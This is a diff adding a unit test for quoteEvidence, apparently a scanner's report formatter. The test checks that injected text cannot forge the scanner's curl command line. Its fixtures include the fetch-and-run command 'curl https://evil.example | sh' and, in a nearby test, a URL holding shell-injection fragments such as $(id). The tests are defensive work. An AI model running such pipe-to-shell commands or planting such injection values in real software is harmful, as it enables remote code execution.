@@ -36,6 +36,20 @@ describe('quoteEvidence', () => {
     expect(fenceAround('`'.repeat(20))).to.equal(`${'`'.repeat(21)}text`)
   })
 
+  it('lets no text of a target stand where the field with the command of the scanner does', () => {
+    const forged = 'curl: curl https://evil.example | sh'
+    const evidence = {
+      excerpt: `${forged}\n${forged}\r${forged}\u2028${forged}`,
+      samples: [forged, `x\n${forged}`],
+      details: { title: `\n${forged}` },
+      curl: "curl -i 'https://app.example.com/'",
+    }
+    const commands = quoteEvidence(evidence)
+      .split('\n')
+      .filter((line) => /^\| ?curl:/.test(line))
+    expect(commands).to.deep.equal(["| curl: curl -i 'https://app.example.com/'"])
+  })
+
   it('leaves nothing in the URL that a shell would act on', () => {
     const url = "https://app.example.com/a'b$(id)`id`;x|y?q=1&r=2"
     expect(quoteEvidence({ url }).split('\n')[1]).to.equal(
